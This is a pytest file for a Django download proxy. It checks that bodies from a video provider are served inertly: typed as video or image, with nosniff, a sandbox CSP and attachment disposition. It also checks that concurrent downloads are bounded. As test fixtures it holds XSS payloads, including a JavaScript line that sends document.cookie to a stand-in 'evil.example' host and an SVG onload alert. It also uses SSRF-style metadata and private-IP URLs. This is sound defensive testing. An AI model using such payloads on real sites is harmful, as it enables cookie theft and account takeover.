"""What the download proxy and the kept copies send back is ours to decide, never the
provider's: a body it labels HTML, JavaScript, SVG or XML is served as the variant's own
type, with nosniff, a sandbox CSP and as an attachment, so it never runs on our origin.
And a process proxies at most VIDEO_DOWNLOAD_CONCURRENCY downloads at once, so a provider
that hangs cannot hold every web thread.

Against real HTTP servers on loopback: the fake provider, and a gated one whose answers
wait on an event the test releases.
"""

from __future__ import annotations

import threading
from datetime import timedelta
from http.server import BaseHTTPRequestHandler

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.test import Client
from django.utils import timezone

from tests.fake_provider import PROVIDER_KEY as KEY
from tests.fake_provider import LoopbackServer, Reply
from tests.pages import finished
from tests.test_downloads import body
from videos import downloads
from videos.models import KeepState, VideoTask
from videos.safe_fetch import FetchFailed

VIDEO = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 64
WAIT = 10.0  # seconds: how long a test waits for something that should happen at once

HTML = b"<html><script>fetch('/').then(r => r.text()).then(t => document.title = t)</script></html>"
JAVASCRIPT = b"document.cookie.split(';').forEach(c => fetch('https://evil.example/?' + c))"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"></svg>'
XML = b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'

# (what the provider says the body is, the body, what we must serve it as)
VIDEO_CASES = [
    pytest.param("text/html; charset=utf-8", HTML, "video/mp4", id="html"),
    pytest.param("application/javascript", JAVASCRIPT, "video/mp4", id="javascript"),
    pytest.param("image/svg+xml", SVG, "video/mp4", id="svg"),
    pytest.param("text/xml", XML, "video/mp4", id="xml"),
    pytest.param("", HTML, "video/mp4", id="empty"),
    pytest.param("video/mp4", VIDEO, "video/mp4", id="mp4"),
    # Passive: kept, without its parameters.
    pytest.param("Video/WebM; codecs=vp9", VIDEO, "video/webm", id="webm"),
]
THUMBNAIL_CASES = [
    pytest.param("image/svg+xml", SVG, "image/jpeg", id="svg"),
    pytest.param("text/html", HTML, "image/jpeg", id="html"),
    pytest.param("video/mp4", VIDEO, "image/jpeg", id="video"),  # passive, but not an image
    pytest.param("image/png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "image/png", id="png"),
]


@pytest.fixture(autouse=True)
def no_download_slot_outlives_its_test():
    yield
    assert downloads.SLOTS.in_use == 0, "a download slot was never given back"


def hang_up(response) -> None:
    """The client goes away mid-body: the server closes the response, as a WSGI server does
    (and as the test client does, keeping the test's database connection open)."""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def assert_inert(response, content_type: str, disposition: str) -> None:
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    directives = [directive.split() for directive in response["Content-Security-Policy"].split(";")]
    assert ["default-src", "'none'"] in directives
    (sandbox,) = [directive for directive in directives if directive[0] == "sandbox"]
    allowed = [["sandbox"]]
    if disposition.startswith("inline"):
        # The player's video may keep its origin (see downloads.INLINE_CSP); nothing runs.
        allowed.append(["sandbox", "allow-same-origin"])
    assert sandbox in allowed
    assert response["Content-Disposition"] == disposition
    assert response["Cache-Control"] == "private, no-store"


def serve(provider, owner, route: str, provider_type: str, payload: bytes) -> VideoTask:
    """A finished task whose file the provider serves as `provider_type`, through its direct
    link or its content endpoint."""
    reply = Reply(200, body=payload, headers={"Content-Type": provider_type})
    if route == "direct link":
        task = finished(
            owner,
            "video_typed",
            url=f"{provider.base_url}/files/typed",
            expires_at=timezone.now() + timedelta(hours=1),
        )
        provider.script("GET /files/typed", reply)
    else:
        task = finished(owner, "video_typed")
        provider.script("GET /videos/video_typed/content", reply)
    return task


@pytest.mark.parametrize("route", ["direct link", "content endpoint"])
@pytest.mark.parametrize(("provider_type", "payload", "served"), VIDEO_CASES)
def test_the_video_is_served_as_a_video_whatever_the_provider_says(
    configured, signed_in, owner, route, provider_type, payload, served
):
    task = serve(configured, owner, route, provider_type, payload)
    response = signed_in.get(f"/tasks/{task.pk}/download/")
    assert response.status_code == 200
    assert body(response) == payload
    assert_inert(response, served, 'attachment; filename="video_typed.mp4"')
    (seen,) = configured.requests
    assert seen.raw_path.startswith(
        "/v1/files/typed" if route == "direct link" else "/v1/videos/video_typed/"
    )


@pytest.mark.parametrize(("provider_type", "payload", "served"), THUMBNAIL_CASES)
def test_the_thumbnail_is_served_as_an_image_whatever_the_provider_says(
    configured, signed_in, owner, provider_type, payload, served
):
    task = serve(configured, owner, "content endpoint", provider_type, payload)
    # An attachment even when asked for inline: only the player's video may be inline.
    response = signed_in.get(f"/tasks/{task.pk}/download/", {"variant": "thumbnail", "inline": "1"})
    assert response.status_code == 200
    assert body(response) == payload
    assert_inert(response, served, 'attachment; filename="video_typed-thumbnail.jpg"')


@pytest.mark.parametrize("route", ["direct link", "content endpoint"])
def test_the_players_inline_video_is_still_typed_and_sandboxed(configured, signed_in, owner, route):
    task = serve(configured, owner, route, "text/html", HTML)
    response = signed_in.get(f"/tasks/{task.pk}/download/", {"inline": "1"})
    assert body(response) == HTML
    assert_inert(response, "video/mp4", 'inline; filename="video_typed.mp4"')


@pytest.mark.parametrize(
    ("provider_type", "served"),
    [
        (" VIDEO/MP4 ; charset=utf-8", "video/mp4"),
        ("video/quicktime", "video/quicktime"),
        ("video/mp4+html", "video/mp4"),
        ("text/html", "video/mp4"),
        ("application/octet-stream", "video/mp4"),
        ("multipart/x-mixed-replace; boundary=x", "video/mp4"),
    ],
)
def test_one_rule_decides_the_type(provider_type, served):
    assert downloads.served_type("video", provider_type) == served
    assert downloads.served_type("spritesheet", provider_type) == "image/jpeg"


def test_errors_are_inert_too(configured, signed_in, owner):
    refused = finished(owner, "video_refused", url="http://10.0.0.1/v.mp4")
    response = signed_in.get(f"/tasks/{refused.pk}/download/")
    assert response.status_code == 502
    assert b"Refused to fetch" in response.content
    assert_inert(response, "text/plain; charset=utf-8", 'attachment; filename="video_refused-error.txt"')

    broken = finished(owner, "video_broken")
    configured.script(
        "GET /videos/video_broken/content",
        Reply(500, body=HTML, headers={"Content-Type": "text/html"}),
    )
    response = signed_in.get(f"/tasks/{broken.pk}/download/")
    assert response.status_code == 502
    assert b"<script>" not in response.content
    assert_inert(response, "text/plain; charset=utf-8", 'attachment; filename="video_broken-error.txt"')


def kept(owner, task_id: str, video_name: str, video: bytes, thumb_name: str, thumb: bytes) -> VideoTask:
    """A task whose provider link has expired, served from kept files stored under these names."""
    return finished(
        owner,
        task_id,
        expires_at=timezone.now() - timedelta(minutes=1),
        keep_state=KeepState.KEPT,
        kept_file=default_storage.save(f"kept/videos/{video_name}", ContentFile(video)),
        kept_thumbnail=default_storage.save(f"kept/thumbnails/{thumb_name}", ContentFile(thumb)),
        kept_bytes=len(video),
        kept_at=timezone.now(),
    )


def test_kept_copies_are_served_as_the_variant_whatever_their_stored_name(configured, signed_in, owner):
    task = kept(owner, "video_kept_evil", "evil.html", HTML, "evil.svg", SVG)

    response = signed_in.get(f"/tasks/{task.pk}/download/")
    assert body(response) == HTML
    assert_inert(response, "video/mp4", 'attachment; filename="video_kept_evil.mp4"')

    response = signed_in.get(f"/tasks/{task.pk}/download/", {"inline": "1"})
    assert body(response) == HTML
    assert_inert(response, "video/mp4", 'inline; filename="video_kept_evil.mp4"')

    response = signed_in.get(f"/tasks/{task.pk}/download/", {"variant": "thumbnail", "inline": "1"})
    assert body(response) == SVG
    assert_inert(response, "image/jpeg", 'attachment; filename="video_kept_evil-thumbnail.jpg"')
    assert configured.requests == []


class GatedProvider(LoopbackServer):
    """A provider on loopback whose answers can wait on `gate`, by the link's first folder:
    `hang` before the status line, `stall` halfway through the body; `ok` answers at once,
    `error` with a 500, `short` promises more body than it sends."""

    def __init__(self) -> None:
        super().__init__()
        self.gate = threading.Event()
        self.paths: list[str] = []
        self._arrived = threading.Condition()

    def stop(self) -> None:
        self.gate.set()
        super().stop()

    def wait_for_requests(self, count: int) -> None:
        with self._arrived:
            assert self._arrived.wait_for(lambda: len(self.paths) >= count, timeout=WAIT), self.paths

    def _handle(self, handler: BaseHTTPRequestHandler) -> None:
        kind = handler.path.split("/")[2]  # /v1/<kind>/...
        with self._arrived:
            self.paths.append(handler.path)
            self._arrived.notify_all()
        if kind == "hang":
            self.gate.wait(WAIT)
        if kind == "error":
            handler.send_response(500)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        handler.send_response(200)
        handler.send_header("Content-Type", "video/mp4")
        handler.send_header("Content-Length", str(len(VIDEO)))
        handler.end_headers()
        half = len(VIDEO) // 2
        try:
            if kind == "stall":
                handler.wfile.write(VIDEO[:half])
                handler.wfile.flush()
                self.gate.wait(WAIT)
                handler.wfile.write(VIDEO[half:])
            elif kind == "short":
                handler.wfile.write(VIDEO[:half])
                handler.close_connection = True
            else:
                handler.wfile.write(VIDEO)
        except OSError:
            handler.close_connection = True


@pytest.fixture
def gated(settings):
    provider = GatedProvider().start()
    settings.VIDEO_API_BASE_URL = provider.base_url
    settings.VIDEO_API_KEY = KEY
    settings.VIDEO_DOWNLOAD_CONCURRENCY = 2
    yield provider
    provider.stop()


def linked(owner, gated: GatedProvider, kind: str, n: int = 1) -> VideoTask:
    return finished(owner, f"video_{kind}_{n}", url=f"{gated.base_url}/{kind}/{n}.mp4")


def assert_busy(response) -> None:
    assert response.status_code == 503
    assert 0 < int(response["Retry-After"]) <= 30
    assert b"Too many downloads" in response.content
    assert_inert(response, "text/plain; charset=utf-8", response["Content-Disposition"])
    assert response["Content-Disposition"].startswith("attachment; filename=")


@pytest.mark.django_db(transaction=True)
def test_downloads_waiting_for_the_provider_are_bounded(gated, owner):
    # Each download in its own thread, as gunicorn's threads would run them; the provider
    # holds both before sending a status line.
    hung = [linked(owner, gated, "hang", n) for n in (1, 2)]
    answers: list[tuple[int, bytes]] = []

    def fetch(task: VideoTask) -> None:
        try:
            client = Client()
            client.force_login(owner)
            response = client.get(f"/tasks/{task.pk}/download/")
            answers.append((response.status_code, body(response)))
        finally:
            connection.close()

    threads = [threading.Thread(target=fetch, args=(task,)) for task in hung]
    for thread in threads:
        thread.start()
    gated.wait_for_requests(2)

    client = Client()
    client.force_login(owner)
    ok = linked(owner, gated, "ok")
    assert_busy(client.get(f"/tasks/{ok.pk}/download/"))
    assert len(gated.paths) == 2, "the provider was asked beyond the bound"

    gated.gate.set()
    for thread in threads:
        thread.join(WAIT)
        assert not thread.is_alive()
    assert answers == [(200, VIDEO), (200, VIDEO)]
    response = client.get(f"/tasks/{ok.pk}/download/")
    assert response.status_code == 200
    assert body(response) == VIDEO


def test_a_slot_is_held_until_the_body_is_sent_or_the_client_goes_away(gated, signed_in, owner):
    # The provider sends its headers and half the body, then stalls: the view has returned,
    # the response is still streaming.
    first = signed_in.get(f"/tasks/{linked(owner, gated, 'stall', 1).pk}/download/")
    second = signed_in.get(f"/tasks/{linked(owner, gated, 'stall', 2).pk}/download/")
    assert (first.status_code, second.status_code) == (200, 200)
    ok = linked(owner, gated, "ok")
    try:
        assert_busy(signed_in.get(f"/tasks/{ok.pk}/download/"))
        assert len(gated.paths) == 2

        # A kept copy is a local file: it needs no slot.
        copy = kept(owner, "video_kept", "v.mp4", VIDEO, "t.jpg", b"\xff\xd8\xff")
        response = signed_in.get(f"/tasks/{copy.pk}/download/")
        assert response.status_code == 200
        assert body(response) == VIDEO

        hang_up(first)
        response = signed_in.get(f"/tasks/{ok.pk}/download/")
        assert response.status_code == 200
        assert body(response) == VIDEO

        gated.gate.set()
        assert body(second) == VIDEO  # finished: its slot is back too
        assert body(signed_in.get(f"/tasks/{ok.pk}/download/")) == VIDEO
    finally:
        hang_up(first)
        hang_up(second)


@pytest.mark.parametrize("failure", ["provider error", "refused", "cut off mid-body", "client gone", "bug"])
def test_the_slot_comes_back_on_every_path(gated, signed_in, owner, settings, monkeypatch, failure):
    settings.VIDEO_DOWNLOAD_CONCURRENCY = 1
    if failure == "provider error":
        response = signed_in.get(f"/tasks/{linked(owner, gated, 'error').pk}/download/")
        assert response.status_code == 502
    elif failure == "refused":
        task = finished(owner, "video_refused", url="http://169.254.169.254/latest/meta-data/")
        assert signed_in.get(f"/tasks/{task.pk}/download/").status_code == 502
    elif failure == "cut off mid-body":
        response = signed_in.get(f"/tasks/{linked(owner, gated, 'short').pk}/download/")
        with pytest.raises(FetchFailed):
            body(response)
    elif failure == "client gone":
        response = signed_in.get(f"/tasks/{linked(owner, gated, 'stall').pk}/download/")
        assert response.status_code == 200  # headers and half the body have arrived
        hang_up(response)
    else:
        with monkeypatch.context() as patched:
            patched.setattr(downloads, "open_remote", lambda task, variant: 1 / 0)
            with pytest.raises(ZeroDivisionError):
                signed_in.get(f"/tasks/{linked(owner, gated, 'ok').pk}/download/")

    # The one slot is free again: a download gets it, and holds it while it streams.
    held = signed_in.get(f"/tasks/{linked(owner, gated, 'stall', 2).pk}/download/")
    try:
        assert held.status_code == 200
        assert_busy(signed_in.get(f"/tasks/{linked(owner, gated, 'ok', 3).pk}/download/"))
    finally:
        hang_up(held)
